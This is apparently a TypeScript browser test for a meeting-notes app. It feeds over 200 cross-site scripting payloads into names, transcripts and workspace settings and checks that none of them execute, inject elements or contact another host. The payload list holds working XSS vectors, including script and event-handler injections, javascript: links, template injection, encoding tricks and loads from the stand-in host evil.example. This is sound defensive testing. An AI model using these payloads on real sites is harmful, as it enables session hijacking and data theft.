import assert from 'node:assert/strict';
import { importMeetings, updateWorkspace } from '@handrail/contract';
import type { Journeys } from './start-journeys.ts';
import type { Visitor } from './visitor.ts';

/** Each tries to call `pwned()`, or to ask the host evil.example, in its own way. */
const VECTORS: readonly string[] = [
  '<script>pwned()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=pwned()>',
  '<img src=//evil.example/x.png>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<body onload=pwned()>',
  '<iframe src=javascript:pwned()></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data=//evil.example/x></object>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<a href=javascript:pwned()>click</a>',
  '<a href="data:text/html,<script>pwned()</script>">click</a>',
  '<form action=//evil.example/><input autofocus onfocus=pwned()></form>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=//evil.example/x.mp3 autoplay>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<marquee onstart=pwned()>',
  '<x contenteditable onblur=pwned()>lose focus</x>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}',
  '<%= pwned() %>',
  'javascript:pwned()',
  '![x](javascript:pwned())',
  '[x](//evil.example/)',
  '![x][y]\n\n[y]: //evil.example/x.png',
  '\u202e<script>pwned()</script>',
  '<scr\u0000ipt>pwned()</scr\u0000ipt>',
  '＜script＞pwned()＜/script＞',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '%3Cscript%3Epwned()%3C/script%3E',
];

/** Places in a page that a text may try to break out of. */
const WRAPS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>${vector}`,
  (vector) => `</title></textarea></script>--><!--${vector}`,
  (vector) => `]]>\`;${vector}//`,
  (vector) => `\\u003c/script\\u003e${vector}`,
];

/** More than 200 payloads. */
const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) => WRAPS.map((wrap) => wrap(vector)));
const MEETINGS = 5;

/**
 * Gives every payload as a speaker's name and as their words, and some as titles, people and the workspace's name; looks at all
 * the screens that show them. None may run, ask another host or become a tag.
 */
export async function showPayloads(journeys: Journeys, { page, assertQuiet }: Visitor): Promise<void> {
  assert.ok(PAYLOADS.length >= 200);
  const size = Math.ceil(PAYLOADS.length / MEETINGS);
  const lines = Array.from({ length: MEETINGS }, (_, at) => {
    const own = PAYLOADS.slice(at * size, (at + 1) * size);
    return JSON.stringify({
      id: `payloads-${at}`,
      title: own[0]?.slice(0, 190),
      startedAt: `2026-11-2${at}T10:00:00Z`,
      participants: own
        .slice(0, 20)
        .map((name, person) => ({ name, email: `p${at}-${person}@evil.example` })),
      turns: own.map((payload) => ({ speaker: payload, text: `We will pay ${payload} by Friday.` })),
    });
  });
  const body = { fileName: 'payloads.jsonl', format: 'json-lines', content: lines.join('\n') } as const;
  const { meetingIds, refused } = await journeys.client.call(importMeetings, { body });
  assert.deepEqual(refused, []);
  assert.equal(meetingIds.length, MEETINGS);
  await journeys.client.call(updateWorkspace, { body: { name: PAYLOADS[0] ?? '' } });
  await page.addInitScript('window.pwned = () => { window.wasPwned = true; throw new Error("pwned"); }');
  const look = async (path: string): Promise<void> => {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.waitForLoadState('networkidle');
    assert.equal(await page.evaluate('window.wasPwned === true'), false, path);
    const made = page.locator(
      '#root :is(iframe, object, embed, base, meta, form[action], script, marquee, details[ontoggle], [onerror], [onload], [href^="javascript:"])',
    );
    assert.equal(await made.count(), 0, path);
    assert.equal((await page.getByText('pwned()').count()) > 0, true, `${path} shows them`);
    // What turns the direction of a text would turn what stands beside it, too.
    const said = `${await page.title()} ${await page.locator('#root').innerText()}`;
    assert.doesNotMatch(said, /\p{Bidi_Control}/u, path);
  };
  await look('/meetings');
  for (const id of meetingIds) await look(`/meetings/${id}`);
  await look('/settings/organisation');
  await journeys.client.call(updateWorkspace, { body: { name: 'Handrail' } });
  assertQuiet();
}
